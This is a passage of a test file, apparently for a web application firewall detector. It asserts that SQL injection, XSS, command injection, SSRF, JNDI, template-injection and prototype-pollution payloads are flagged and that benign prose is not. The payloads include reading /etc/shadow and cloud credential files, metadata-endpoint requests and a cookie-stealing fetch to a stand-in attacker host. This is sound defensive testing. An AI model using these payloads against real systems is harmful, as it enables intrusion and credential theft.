    expect(hits("sort 1 order by date", AttackClass.Sqli)).toBe(false);
  });
  it("xss: a handler right after a backtick-quoted attribute", () => {
    expect(hits("<img src=`xx:xx`onerror=alert(1)>", AttackClass.Xss)).toBe(true);
  });
  it("cmdi: empty substitutions inside a command word", () => {
    expect(hits(";who``ami", AttackClass.Cmdi)).toBe(true);
    expect(hits(";c$()at /etc/passwd", AttackClass.Cmdi)).toBe(true);
  });
  it("traversal: cloud and cluster credentials, process environments", () => {
    const files: StaticArray<string> = ["/etc/kubernetes/admin.conf", "~/.aws/credentials", "/home/user/.bash_history", "/proc/1/environ", "../../.kube/config"];
    for (let i = 0; i < files.length; i++) expect(hits(files[i], AttackClass.Traversal)).toBe(true, files[i]);
  });
  it("ssrf: circled and fullwidth host names, ideographic dots, IPv4-compatible IPv6, 192.0.0.192, Tencent metadata", () => {
    const attacks: StaticArray<string> = ["http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/", "http://①②⑦.⓪.⓪.①/", "http://127。0。0。1/", "http://１２７.０.０.１/", "http://[::127.0.0.1]/",
      "http://192.0.0.192/latest/", "http://metadata.tencentyun.com/latest/meta-data/"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssrf)).toBe(true, attacks[i]);
    const benign: StaticArray<string> = ["你好，我的订单号是１２３４５。请尽快发货！", "①商品を選ぶ ②カートに入れる ③購入する", "http://[::8.8.8.8]/"];
    for (let i = 0; i < benign.length; i++) expect(clean(benign[i])).toBe(true, benign[i]);
  });
});

function urlHeader(s: string): AttackClass { const b = String.UTF8.encode(s); return detectAttackInUrlHeader(changetype<usize>(b), b.byteLength); }
describe("URL-valued headers (Referer)", () => {
  it("a page address is not an include or an internal host; script and SQL in it still are attacks", () => {
    expect(urlHeader("http://shop.example.com/cart.php")).toBe(AttackClass.None);
    expect(urlHeader("http://localhost:3000/checkout")).toBe(AttackClass.None);
    expect(urlHeader("http://x/<script>alert(1)</script>")).toBe(AttackClass.Xss);
    expect(urlHeader("http://x/?id=1' or '1'='1")).toBe(AttackClass.Sqli);
    expect(urlHeader("${jndi:ldap://evil.com/a}")).toBe(AttackClass.Jndi);
  });
});

describe("ordinary markup tags (audit of issue #3)", () => {
  it("<meta charset>, <link rel=stylesheet>, CSS in <style>, a search <form>, an <svg> icon are not XSS", () => {
    const benign: StaticArray<string> = ["<meta charset=\"utf-8\">", "<link rel=\"stylesheet\" href=\"/css/site.css\">", "<style>.x { color: red; }</style>",
      "<form action=\"/search\" method=\"get\"><input name=\"q\"></form>", "<svg width=\"24\" height=\"24\" viewBox=\"0 0 24 24\"><path d=\"M12 2L2 7l10 5z\"/></svg>"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
  });
  it("the same tags with a script vector are", () => {
    const attacks: StaticArray<string> = ["<style>@import 'javascript:alert(1)';</style>", "<style>*{background:url(\"javascript:alert(1)\")}</style>",
      "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<link rel=import href=\"data:text/html,x\">",
      "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><a><animate attributeName=href values=javascript:alert(1) /></a>",
      "<form><button formaction=javascript:alert(1)>X</button>", "<style>body{behavior:url(x.htc)}</style>"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
  });
});

describe("template-engine polyglots (audit of issue #3)", () => {
  it("the delimiters of three engines at once", () => {
    expect(hits("${{<%[%'\"}}%\\.", AttackClass.Ssti)).toBe(true);
    expect(hits("#{7}${{x}}<%= y %>", AttackClass.Ssti)).toBe(true);
    expect(hits("Hi {{name}}, total ${price}", AttackClass.Ssti)).toBe(false);
  });
});

describe("prose that looks like statements or script URIs (audit of issue #3)", () => {
  it("'; delete old files' and 'Javascript: the good parts' are prose; the SQL and script forms are not", () => {
    expect(hits("Execute the plan; delete old files", AttackClass.Sqli)).toBe(false);
    expect(hits("Call me; update me later", AttackClass.Sqli)).toBe(false);
    expect(hits("Javascript: the good parts (book)", AttackClass.Xss)).toBe(false);
    const attacks: StaticArray<string> = ["1; DROP TABLE users", "x'; DELETE FROM orders--", "'; INSERT INTO users VALUES('a','b')--", "'; update users set role='admin'--",
      "'; exec master..xp_cmdshell 'ping 10.0.0.1'--", "1; drop database shop"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Sqli)).toBe(true, attacks[i]);
    expect(hits("javascript: alert(1)", AttackClass.Xss)).toBe(true);
    expect(hits("javascript:alert(1)", AttackClass.Xss)).toBe(true);
  });
});

describe("event handlers in unquoted attributes and right after a quote (audit of issue #3)", () => {
  it("flags handlers that call script; not prose or configuration that names one", () => {
    const attacks: StaticArray<string> = ["x onmouseover=alert(1)", " autofocus onfocus=alert(1)", "\"onmouseover=\"alert(1)", "'onfocus='alert(1)", "x onclick=top['al'+'ert'](1)", "a onfocus=confirm`1`"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
    const benign: StaticArray<string> = ["Set onboarding=true in config", "The onload=... attribute is deprecated", "onions, peppers and tomatoes", "x = online ? 1 : 0"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
  });
});

describe("quoted words in prose (audit of issue #3)", () => {
  it("a quoted 'and' or 'strong' is not a string-closing tautology; ' or 'a still is", () => {
    expect(hits("she said \"or\" not 'and'", AttackClass.Sqli)).toBe(false);
    expect(hits("He's 6' 2\" and 'strong'", AttackClass.Sqli)).toBe(false);
    expect(hits("admin' or 'a", AttackClass.Sqli)).toBe(true);
    expect(hits("x\" or \"y", AttackClass.Sqli)).toBe(true);
    expect(hits("1' or 1", AttackClass.Sqli)).toBe(true);
  });
});

describe("JNDI with a dotless i (audit of issue #3)", () => {
  it("${upper:ı} spells the I of jndi", () => {
    expect(hits("${jnd${upper:ı}:http://evil.com/a}", AttackClass.Jndi)).toBe(true);
  });
});

describe("best-fit slashes and URL parser confusion (audit of issue #3)", () => {
  it("%u2215 and raw ∕ read as '/', ∖ as '\\\\'; a host hidden after #@ or ?@", () => {
    expect(hits("..%u2215..%u2215etc%u2215passwd", AttackClass.Traversal)).toBe(true);
    expect(hits("..∖..∖windows∖win.ini", AttackClass.Traversal)).toBe(true);
    expect(hits("http://google.com#@127.0.0.1/", AttackClass.Ssrf)).toBe(true);
    expect(hits("http://example.com?@169.254.169.254/", AttackClass.Ssrf)).toBe(true);
    expect(hits("http://example.com/page#section@top", AttackClass.Ssrf)).toBe(false);
    expect(hits("3 ∕ 4 of a cup", AttackClass.Traversal)).toBe(false);
  });
});

// The table-driven lookups (SQL words, stream wrappers by the byte before ':', sensitive files 16 bytes at a
// time, internal host names by length, HTML entities by first byte) against each entry they hold.
describe("table-driven lookups find every entry they hold", () => {
  it("every stream wrapper, at the start and after other text", () => {
    const wrappers: StaticArray<string> = ["php://filter/resource=x", "file:///etc/x", "phar://x.phar/a", "zip://x.zip#a", "expect://id", "glob://*", "data://text/plain;base64,x", "jar:file:/x.jar!/a", "compress.zlib://x",
      "compress.bzip2://file.bz2", "ssh2.exec://user:pw@example.com:22/usr/bin/id", "ssh2.shell://u:p@h:22/xterm", "ssh2.tunnel://u:p@h:22/10.0.0.1:25", "ssh2.scp://u:p@h/x", "rar://x.rar#a", "ogg://x"];
    for (let i = 0; i < wrappers.length; i++) {
      expect(hits(wrappers[i], AttackClass.Traversal)).toBe(true, wrappers[i]);
      expect(hits("see " + wrappers[i], AttackClass.Traversal)).toBe(true, "see " + wrappers[i]);
    }
    expect(hits("https://example.com/a?b=c", AttackClass.Traversal)).toBe(false);
  });
  it("sensitive files at every offset across 16-byte blocks and in the last bytes", () => {
    // (With a slash: without one the traversal detector does not run at all.)
    const files: StaticArray<string> = ["/etc/passwd", "c:/windows/win.ini", "keys/id_rsa", "/etc/master.passwd", "/.git/config", "c:\\windows\\win.ini", "/proc/self/environ"];
    for (let i = 0; i < files.length; i++) {
      for (let pad = 0; pad < 20; pad++) {
        const v = "x".repeat(pad) + "=" + files[i];
        expect(hits(v, AttackClass.Traversal)).toBe(true, v);
      }
    }
  });
  it("every internal host name, by itself and with a port", () => {
    const hosts: StaticArray<string> = ["0", "metadata", "localhost", "localtest.me", "instance-data", "kubernetes.default", "localhost.localdomain",
      "metadata.tencentyun.com", "metadata.google.internal", "app.localhost", "db.internal", "kubernetes.default.svc.cluster.local", "10.0.0.1.nip.io"];
    for (let i = 0; i < hosts.length; i++) {
      expect(hits("http://" + hosts[i] + "/x", AttackClass.Ssrf)).toBe(true, hosts[i]);
      expect(hits("http://" + hosts[i] + ":8080/x", AttackClass.Ssrf)).toBe(true, hosts[i] + ":8080");
    }
    // Without a ':' SSRF runs only for "//" at the start or a value with digits (the metadata address).
    expect(hits("//localhost/admin", AttackClass.Ssrf)).toBe(true);
    expect(hits("//169.254.169.254/latest/meta-data/", AttackClass.Ssrf)).toBe(true);
    expect(hits("proxy/169.254.169.254/latest/meta-data/", AttackClass.Ssrf)).toBe(true);
    expect(clean("Europe/Berlin")).toBe(true);
    expect(clean("application/json")).toBe(true);
    const publicHosts: StaticArray<string> = ["metadatas", "localhosts.com", "example.internal.com", "kubernetes.io", "nip.io.example.com"];
    for (let i = 0; i < publicHosts.length; i++) expect(hits("http://" + publicHosts[i] + "/x", AttackClass.Ssrf)).toBe(false, publicHosts[i]);
  });
  it("SQL words by hash: each kind, with and without '('", () => {
    expect(hits("1 union select 2", AttackClass.Sqli)).toBe(true);
    expect(hits("1 UNION ALL SELECT null, null", AttackClass.Sqli)).toBe(true);
    expect(hits("1 and sleep(5)", AttackClass.Sqli)).toBe(true);
    expect(hits("1 or benchmark(1000000,md5(1))", AttackClass.Sqli)).toBe(true);
    expect(hits("1 and extractvalue(1, concat(0x7e, version()))", AttackClass.Sqli)).toBe(true);
    expect(hits("1; select * from information_schema.tables", AttackClass.Sqli)).toBe(true);
    expect(hits("Leave it at the back door and ring the bell, thanks", AttackClass.Sqli)).toBe(false);
  });
  it("HTML entities by their first byte, named and numeric", () => {
    expect(hits("&lt;script&gt;alert(1)&lt;/script&gt;", AttackClass.Xss)).toBe(true);
    expect(hits("&LT;script&GT;alert(1)&LT;/script&GT;", AttackClass.Xss)).toBe(true);
    expect(hits("javascript&colon;alert(1)", AttackClass.Xss)).toBe(true);
    expect(hits("&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;", AttackClass.Xss)).toBe(true);
    expect(clean("a=1&h=100&lt=2")).toBe(true);
  });
});

describe("Java runtime classes, deserialization gadgets and serialized objects (cmdi)", () => {
  it("flags the classes that run commands or load code, gadgets named with the runtime, serialized objects", () => {
    const attacks: StaticArray<string> = ["java.lang.Runtime", "java.lang.ProcessBuilder", "java.lang.Runtime.getRuntime().exec(\"id\")",
      "javax.script.ScriptEngineManager", "java.beans.XMLDecoder", "com.opensymphony.xwork2.ActionContext", "java.Runtime", "java.evil.runtime",
      "ProcessBuilder.evil.invokertransformer", "runtime.clonetransformer", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", "aced0005737200",
      "ACED0005737200", "x=java.lang.Runtime"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
  });
  it("leaves prose, versions and build coordinates alone (a bare class name is another rule's: see below)", () => {
    const benign: StaticArray<string> = ["Java runtime environment 17 is installed", "runtime.version",
      "node.js runtime", "The runtime was 5 minutes", "org.apache.commons.lang3", "ro0ab", "aced", "javascript.info"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
});

function inForm(s: string): AttackClass { const b = String.UTF8.encode(s); return detectAttackInForm(changetype<usize>(b), b.byteLength); }
function anyClass(s: string): AttackClass { const b = String.UTF8.encode(s); return detectAttackAny(changetype<usize>(b), b.byteLength); }
describe("values found clean are remembered by their exact bytes", () => {
  it("a remembered value stays clean, and an attack is found each time", () => {
    expect(anyClass("Europe/Berlin")).toBe(AttackClass.None);
    expect(anyClass("Europe/Berlin")).toBe(AttackClass.None);
    expect(anyClass("1' OR '1'='1")).toBe(AttackClass.Sqli);
    expect(anyClass("1' OR '1'='1")).toBe(AttackClass.Sqli);
  });
  it("an attack whose slot holds a clean value of the same length is read again", () => {
    // 300 clean values of the attack's length fill (almost surely) every one of the 64 slots, the attack's
    // too: only the bytes tell them apart.
    const attacks: StaticArray<string> = ["../../etc/passwd", "<script>alert(1)</script>", "; cat /etc/shadow", "${jndi:ldap://e.com/a}", "{{7*7}}x", "http://169.254.169.254/"];
    for (let k = 0; k < attacks.length; k++) {
      const a = attacks[k];
      for (let v = 0; v < 300; v++) {
        let benign = "";
        for (let i = 0, x = v; i < a.length - 1; i++, x = x / 26) benign += String.fromCharCode(0x61 + (x % 26));
        benign += "/"; // a byte the byte filter lets through: the detectors run, and remember the value
        expect(anyClass(benign)).toBe(AttackClass.None, benign);
      }
      expect(anyClass(a)).not.toBe(AttackClass.None, a);
    }
  });
  it("a verdict holds only for the classes and the mode it was made with", () => {
    // A Referer is read without SSRF and RFI: the same bytes as a value are SSRF.
    expect(urlHeader("http://169.254.169.254/latest/meta-data/")).toBe(AttackClass.None);
    expect(anyClass("http://169.254.169.254/latest/meta-data/")).toBe(AttackClass.Ssrf);
    // In a form '+' is only a space; elsewhere a value is also read with '+' kept.
    expect(inForm("-1 OR 2+1=3")).toBe(AttackClass.None);
    expect(anyClass("-1 OR 2+1=3")).toBe(AttackClass.Sqli);
    // The '+'-kept read is for SQL, script and template arithmetic; the other classes read '+' as a blank and
    // still find their attacks there.
    expect(anyClass("'+alert(1)+'")).toBe(AttackClass.Xss);
    expect(anyClass("{{7+7}}")).toBe(AttackClass.Ssti);
    expect(anyClass("cat+/etc/passwd")).toBe(AttackClass.Cmdi);
    expect(anyClass("${jndi:ldap://a+b/x}")).toBe(AttackClass.Jndi);
    expect(anyClass("application/vnd.api+json")).toBe(AttackClass.None);
  });
});

describe("PHP code (cmdi)", () => {
  it("flags calls of PHP's decoding, running and reaching-out functions, and its request arrays indexed", () => {
    const attacks: StaticArray<string> = ["eval(base64_decode('cGFwYWRhcHVwaSwK'))", "base64_decode()", "cmd=shell_exec /**/ ('id')", "unserialize(foo)",
      "posix_getpwuid('foo', 25)", "get_defined_vars()[0]", "call_user_func($_GET['f'])", "gzinflate (x)", "$_SERVER['test'];", "$_GET [0]", "$GLOBALS['a']"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
  });
  it("leaves prose, look-alike names and documented code alone", () => {
    // (A look-alike ending in a listed name of 8 bytes or more, mybase64_decode(x), reads as the function since
    // the ninth session: CRS matches FOOfsockopen() and the like; a shorter name inside a word does not.)
    const benign: StaticArray<string> = ["the system(s) are down", "Use base64 decoding (see the docs)", "call (user) func", "myphpinfo(x)",
      "```php\nbase64_decode($x);\n```", "the $_ variable", "cost $_GET_RICH (promo)", "unserialize the payload (JSON) first"];
    for (let i = 0; i < benign.length; i++) expect(clean(benign[i])).toBe(true, benign[i]);
  });
});

describe("XSS: UTF-7 markup and attributes after a quote", () => {
  it("UTF-7 markup whose '+' came percent-encoded, once or twice, or raw", () => {
    const attacks: StaticArray<string> = ["%252bADw-script%252bAD4-", "%2BADw-script%2BAD4-alert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "x +ADw-img src=x"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
    const benign: StaticArray<string> = ["the ADW-3000 model", "order ADW-12 shipped", "ADW-report"];
    for (let i = 0; i < benign.length; i++) expect(clean(benign[i])).toBe(true, benign[i]);
  });
  it("an attribute name right after a closing quote, then a handler that calls script", () => {
    expect(hits("\"autofocus/onfocus=alert(1)//", AttackClass.Xss)).toBe(true);
    expect(hits("'autofocus onfocus=confirm`1`", AttackClass.Xss)).toBe(true);
    const benign: StaticArray<string> = ["He said \"hello\" onload was fine", "\"title onload=1", "\"title\" and more onload"];
    for (let i = 0; i < benign.length; i++) expect(clean(benign[i])).toBe(true, benign[i]);
  });
});

describe("prototype pollution", () => {
  it("flags __proto__ and constructor.prototype in names, paths and cookies, however spelled", () => {
    const attacks: StaticArray<string> = ["__proto__[isAdmin]", "__proto__.polluted", "a[__proto__][x]", "constructor.prototype.test", "constructor[prototype][test]",
      "a[constructor][prototype][onerror]", "constructor%5Bprototype%5D%5Btest%5D", "__proto__%5Btest%5D", "__\\u0070roto__.foo", "x['constructor']['prototype']",
      "constructor . prototype"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.PrototypePollution)).toBe(true, attacks[i]);
  });
  it("leaves prototypes and constructors in words alone", () => {
    const benign: StaticArray<string> = ["A constructor sets up the prototype chain.", "prototype.v2", "the prototype[1] board", "constructor_name", "proto_buf.bin",
      "protocol.version", "__init__.py", "constructors, prototypes", "> node no__proto__.js", "my__proto__x"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.PrototypePollution)).toBe(false, benign[i]);
  });
});

describe("Node.js code (cmdi)", () => {
  it("flags node-serialize functions, child_process, process.mainModule and the Function constructor", () => {
    const attacks: StaticArray<string> = ["{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}", "_$$ND_FUNC$$_", "require('child_process').exec('id')",
      "process.mainModule.require('fs')", "this.constructor.constructor('return process')()", "''.constructor.constructor('alert(1)')()"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
  });
  it("leaves process.env, require() and prose about processes alone", () => {
    const benign: StaticArray<string> = ["process.env.NODE_ENV", "const x = require('express')", "the child process exited", "main module of the process", "constructor. Constructor"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
});

describe("Windows batch loops and conditions (cmdi)", () => {
  it("flags FOR %var IN (…) and IF with EXIST, DEFINED, ERRORLEVEL or a comparison before a command", () => {
    const attacks: StaticArray<string> = ["& FOR /F \"delims=\" %G IN ('SET') DO @Echo %G", "FOR /R C:\\temp\\ %%G IN (*.bak) do Echo del \"%%G\"", "for %a in (a,b,c) do cmd",
      "FOR /L %G IN (1,1,5) DO echo %G", "IF EXIST data.xls Echo The file was found.", "IF \"%var%\"==\"\" (SET var=default value)", "IF (2 GEQ 15) echo \"bigger\"",
      "IF %ERRORLEVEL% NEQ 0 goto fail", "IF /I NOT EXIST C:\\nonexistent echo hey", "if [%1]==[] ECHO Value Missing",
      // a batch variable compared needs no known command after it; quoted operands with blanks; chained conditions
      "if \"%VAR%\"==%%A do echo true", "IF \"%~1\"==\"/?\" ...", "if not {%1} == {}", "if \"A A\" == \"A A\" echo same",
      "IF /I \"%var%\"==\"hello, world!\" ( ECHO found )", "IF ERRORLEVEL 3 IF NOT ERRORLEVEL 4 ..."];
    // listed commands longer than 12 bytes were never compared (ansible-playbook, ansible-inventory)
    expect(hits("; ansible-playbook site.yml", AttackClass.Cmdi)).toBe(true);
    expect(hits("x && ansible-inventory --list", AttackClass.Cmdi)).toBe(true);
    expect(hits("Read the ansible-playbook docs", AttackClass.Cmdi)).toBe(false);
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
  });
  it("leaves prose with for, in, if and exist alone", () => {
    const benign: StaticArray<string> = ["if not defined by the user the default is set", "for each item in (list) do it", "If it exists, echo it back",
      "for 100% in (most) cases", "if x == y then echo", "Thanks for the gift (in the box) and if so, call me", "if errorlevel is high, call support",
      "if 100% == done then celebrate", "if you see 50% off == great deal", "if exist foo if you like it", "if a==b foo"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
});

describe("commands run through another, and aliases (cmdi)", () => {
  it("flags nohup, strace, time, sudo, cpulimit before a command, and an alias being defined", () => {
    const attacks: StaticArray<string> = ["strace ifconfig", "nohup ifconfig", "time curl coreruleset.org", "ti''me curl coreruleset.org", "cpulimit -l 100 -f whoami",
      "sudo nohup id", "alias a=b", "alias -p jzfrx=id", "alias ..='cd ..'", "alias 'letter'=curl&letter google.com"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
  });
  it("leaves prose that starts with those words alone", () => {
    const benign: StaticArray<string> = ["time flies like an arrow", "Time to go home", "env is production", "sudo make me a sandwich", "alias for the user",
      "timeout 30 seconds", "time travel", "nohup"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
});

describe("names only an attack on the database sends (sqli)", () => {
  it("flags MSSQL attack procedures, INTO OUTFILE/DUMPFILE with a name, and reading the catalog", () => {
    const attacks: StaticArray<string> = [" exec xp_cmdshell", "exec xp_cmdshell 'dir'", "; exec master..xp_cmdshell 'ping x'", "exec master..xp_dirtree '\\\\x.com\\a'",
      "from information_schema.tables", "FROM INFORMATION_SCHEMA.\n", "from `information_schema`\n", "1 into outfile '/tmp/x'", "1 into outfile substring('asd', 10, 1)",
      "1337) INTO OUTFILE ‘xxx’--", "union select 1 into dumpfile '/x'"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Sqli)).toBe(true, attacks[i]);
  });
  it("leaves prose and look-alike names alone", () => {
    const benign: StaticArray<string> = ["the information_schema database lists tables", "save into outfile.txt", "export into outfile please", "my_xp_cmdshell_notes",
      "```sql\nexec xp_cmdshell 'dir'\n```"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
});

describe("first-letter tables of the cmdi word lists", () => {
  it("every command prefix is found (the first-letter mask holds each)", () => {
    const prefixes: StaticArray<string> = ["nohup", "strace", "ltrace", "time", "sudo", "doas", "env", "xargs", "setsid", "cpulimit", "timeout", "stdbuf", "ionice", "chroot"];
    for (let i = 0; i < prefixes.length; i++) expect(hits(prefixes[i] + " id", AttackClass.Cmdi)).toBe(true, prefixes[i]);
    expect(hits("alias x=id", AttackClass.Cmdi)).toBe(true);
  });
  it("every PHP function name is found before '('", () => {
    const names: StaticArray<string> = ["base64_decode", "gzinflate", "gzuncompress", "gzdecode", "str_rot13", "convert_uudecode", "shell_exec", "proc_open", "pcntl_exec",
      "passthru", "call_user_func", "call_user_func_array", "create_function", "unserialize", "assert_options", "file_get_contents", "file_put_contents", "fsockopen",
      "pfsockopen", "stream_socket_client", "posix_getpwuid", "posix_getpwnam", "posix_kill", "get_defined_functions", "get_defined_vars", "get_defined_constants",
      "phpinfo", "show_source", "highlight_file", "ini_set", "putenv", "move_uploaded_file"];
    for (let i = 0; i < names.length; i++) expect(hits(names[i] + "(x)", AttackClass.Cmdi)).toBe(true, names[i]);
  });
});

describe("markup an XML parser assembles, and XSLT that calls PHP", () => {
  it("a tag split by CDATA sections, an imported behavior, php:function in a stylesheet", () => {
    expect(hits("<foo><![CDATA[<]]>SCRIPT<![CDATA[>]]>alert('XSS');<![CDATA[<]]>/SCRIPT<![CDATA[>]]></foo>", AttackClass.Xss)).toBe(true);
    expect(hits("<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"http://ha.ckers.org/xss.htc\">", AttackClass.Xss)).toBe(true);
    expect(hits("<xsl:value-of select=\"php:function('passthru','ls -la')\"/>", AttackClass.Cmdi)).toBe(true);
  });
  it("CDATA with text, and prose about imports, are not", () => {
    expect(clean("<note><![CDATA[a < b and c > d]]></note>")).toBe(true);
    expect(clean("import the implementation from <module>? see chapter 3")).toBe(true);
  });
});

describe("XSS hidden by CSS escapes and comments, data binding, stylesheet links", () => {
  it("finds the vector once the CSS is resolved", () => {
    const attacks: StaticArray<string> = ["<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
      "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
      "<// style=x:expression\\28write(1)\\29>", "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
      "<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>", "<LINK REL=\"stylesheet\" HREF=\"http://ha.ckers.org/xss.css\">", "<link / asdf href  /= "];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
  });
  it("leaves styles and paths that hide nothing alone", () => {
    const benign: StaticArray<string> = ["<div style=\"color:red /* brand */\">Hi</div>", "C:\\styles\\main.css", "the <link> element is described below",
      "style guide: use \\n for newlines"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
  });
});

describe("script calls standing alone and tagged templates (xss)", () => {
  it("flags the probes and payloads", () => {
    const attacks: StaticArray<string> = ["alert(1)", "prompt(1)", "confirm()", "alert`1`", "alert(document.cookie)", "window.alert(1)", "eval(atob('YWxlcnQoMSk='))",
      "setTimeout(\"alert(1)\")", "fetch('//evil.example/?c='+document.cookie)", "[].sort.call`${alert}1337`", "Reflect.apply.call`${navigation.navigate}${navigation}${[name]}`",
      "alert(/xss/)", "eval(String.fromCharCode(97,108,101,114,116,40,49,41))"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
  });
  it("leaves prose, ordinary calls and markdown names alone", () => {
    const benign: StaticArray<string> = ["Set an alert (daily) please", "please confirm your email", "use `fn.call` to invoke it", "the `alert` function", "print(\"hello\")",
      "fetch(\"/api/users\")", "window.print()", "setInterval(code, 1)", "res.setTimeout(10000)", "findalert(1)", "alert (2 items)"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
  });
});

describe("catalog probes and NoSQL operators (sqli)", () => {
  it("flags a catalog or database call alone, and MongoDB operators where a value belongs", () => {
    const attacks: StaticArray<string> = ["database()", "DaTaBasE(", "db_name(", "@@version", "pg_catalog.pg_tables", "current_user( ", "$ne", "u_id[$ne]=2", "[$regex]=.*",
      "{\"$where\": \"sleep(100)\"}", "password[$gt]=", "'$nin' : [1]", "information_schema", "INFORMATION_SCHEMA", "pg_catalog", " `sqlite_master`", "mysql.user",
      "MSysAccessObjects"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Sqli)).toBe(true, attacks[i]);
  });
  it("leaves prose about catalogs, shell and PHP variables, and prices alone", () => {
    const benign: StaticArray<string> = ["the information_schema database lists tables", "information_schema database", "$text = \"hi\"", "costs $in total", "echo $where",
      "$100 off", "{\"$schema\": \"x\"}", "my database (postgres) is slow", "msdb", "tempdb"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
});

describe("statements and calls only a database reads (sqli)", () => {
  it("flags versioned comments, dynamic SQL, declared variables, procedures, created functions and engine functions", () => {
    const attacks: StaticArray<string> = ["9999 or {if length((/*!5000select username/*!50000from*/user where id=1))>0}", "/*!50000union*/", "EXECUTE IMMEDIATE \"",
      "execute  immediate 'drop table x'", "procedure analyse (", "declare @b\n", "DECLARE/**/@x", "exec master..xp_dirtree '//x/a'", "exec (@q)",
      "CREATE FUNCTION hello (s CHAR(20)) RETURNS CHAR(50) DETERMINISTIC RETURN CONCAT('Hello, ',s,'!');", "lo_get(16400)",
      "lo_import('/etc' || '/pass' || 'wd')", "admin@example.com'and not sqlite_compileoption_get (id)--", "XMLType(", "name_const(", "x||utl_http.request('http://e/')"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Sqli)).toBe(true, attacks[i]);
  });
  it("flags PostgreSQL casts to a number or after a call or a quote, not language paths or IPv6", () => {
    const attacks: StaticArray<string> = ["password::int", "unistr(password)::int", "function(foo)::double precision", "starts_with(password,'a')::int", "(select 1)::text",
      "'1'::bytea"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Sqli)).toBe(true, attacks[i]);
    const benign: StaticArray<string> = ["std::string", "fe80::1", "Foo::Text", "Net::HTTP", "std::int8_t", "10:15:00", "a::b", "Rails::Date"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
  it("leaves prose and code that use the same words alone", () => {
    const benign: StaticArray<string> = ["please execute immediately", "we declare @home tonight", "and the winner, I declare @maria", "the procedure analysed (see notes)", "/*! important */ note",
      "exec masterclass", "create a function that returns a list", "my_lo_get(1)", "he said /*!*/"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
});

describe("PostgreSQL JSON operators and casts (sqli: the JSON-syntax way around WAFs)", () => {
  it("reads casts away and JSON operators as operators", () => {
    const attacks: StaticArray<string> = ["OR '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'::jsonb", "OR '{\"b\":2}'::jsonb @> '{\"a\":1}'::jsonb", "OR '{\"a\":\"b\"}' ? 'a'",
      "OR '[1,2,3]'::json ->> 2='3'", "OR '{\"a\":1}'::jsonb #> '{a,b}' ? 'c'", "OR json_extract('{\"id\": 14, \"name\": \"Aztalan\"}', '$.name') = 'Aztalan'",
